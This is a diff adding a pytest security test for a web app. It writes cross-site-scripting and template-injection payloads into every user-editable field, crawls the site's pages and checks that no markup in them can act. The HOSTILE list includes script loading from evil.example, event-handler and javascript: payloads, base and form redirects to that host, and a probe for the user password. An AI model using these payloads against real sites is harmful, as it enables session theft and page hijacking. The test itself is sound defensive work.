@@ -1,0 +1,88 @@
+"""T25: no text that people write becomes markup, wherever it is shown."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import pytest
+
+from access.services import keys, people
+from access.services.people import edit_user
+from artifacts.models import Version
+from projects.services.runs import RunFields, upsert_run
+from registries.services.collections import edit_collection, tag_collection
+from registries.services.links import add_aliases
+from registries.services.protection import protect_alias
+from registries.services.registries import Edit, edit_registry
+from tests.access.asking import Asker
+from tests.access.test_leaks import crawl
+from tests.access.world import World
+from tests.making import log_version
+
+HOSTILE = [
+    '<script src="//evil.example/x.js"></script>',
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)><math><mi href=javascript:alert(1)>x",
+    "\"' onmouseover=alert(1) x='\" autofocus onfocus=alert(1)",
+    "[a](javascript:alert(1)) ![b](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)> [c]: vbscript:x",
+    "<!-- --><iframe srcdoc='<script>alert(1)</script>'></iframe><base href=//evil.example><meta http-equiv=refresh content=0>",
+    "</textarea></title></script><style>*{background:url(//evil.example)}</style><form action=//evil.example><button>x",
+    "{% csrf_token %}{{ request.user.password }}${7*7}&lt;script&gt;alert(1)&lt;/script&gt;",
+]
+NEVER = {"iframe", "object", "embed", "applet", "base", "math", "style", "frame", "video", "audio"}
+ADDRESSES = {"href", "src", "action", "formaction", "srcset", "poster", "data", "xlink:href", "hx-get", "hx-post", "background"}
+
+
+class Reader(HTMLParser):
+    """Collects what of a page could act by itself."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = {name: value or "" for name, value in attrs}
+        if tag in NEVER or (tag == "script" and not values.get("src", "").startswith("/static/")):
+            self.found.append(f"<{tag} {values}>")
+        if tag == "meta" and "http-equiv" in values:
+            self.found.append(f"<meta {values}>")
+        for name, value in values.items():
+            plain = "".join(value.split()).casefold()
+            outward = plain.startswith(("javascript:", "data:", "vbscript:", "//")) or "evil.example" in plain
+            if name.startswith("on") or name in {"style", "srcdoc"} or (name in ADDRESSES and outward):
+                self.found.append(f"<{tag} {name}={value!r}>")
+
+
+def write_everywhere(world: World, text: str) -> None:
+    """`text`, or as much of it as a name may hold, wherever somebody can write."""
+    cast, name = world.cast, "".join(character for character in text if character not in "/\\#?%:\r\n")[:100]
+    edit_user(actor=cast.mia, user=cast.mia, full_name=text[:150])
+    edit_registry(actor=cast.adam, registry=cast.registry, edit=Edit(description=text, add_types=[name]))
+    edit_collection(actor=cast.mia, collection=world.collection, name=name, description=text)
+    tag_collection(actor=cast.mia, collection=world.collection, add=["plain words"])
+    add_aliases(actor=cast.mia, link=world.links[0], names=[name])
+    protect_alias(actor=cast.adam, registry=cast.registry, name=f"{name}!")
+    keys.create_key(actor=cast.olga, user=cast.olga, name=text[:120])
+    fields = RunFields(display_name=text[:120], notes=text, config={text: text, "list": [text]}, summary={text: 1.5}, group=text[:60])
+    run, _ = upsert_run(actor=cast.mia, project=world.project, name="loud", fields=fields)
+    log_version(
+        cast.mia, world.project, {f"{name}.txt": text.encode(), "page.html": text.encode(), "note.md": text.encode()}, run=run,
+        name=name, description=text, metadata={text: {"nested": [text]}}, references={"ref": f"s3://bucket/{name}"},
+    )  # fmt: skip
+    Version.objects.filter(pk=world.versions[0].pk).update(description=text, metadata={text: text})
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_text_acts_on_any_page(text: str, world: World, asker: Asker) -> None:
+    write_everywhere(world, text)
+    world.people["olga"] = people.find_user("olga")
+    pages = {path: body for path, body in crawl(asker, "olga").items() if "/download/" not in path and "/thumbnail/" not in path}
+    assert sum("evil" in body or "alert(1)" in body or "7*7" in body for body in pages.values()) > 10, "it is shown nowhere"
+    acting = {}
+    for path, body in pages.items():
+        assert body[:3] in {"200", "302", "404"}, (path, body[:200])
+        reader = Reader()
+        reader.feed(body)
+        if reader.found:
+            acting[path] = reader.found
+    assert acting == {}
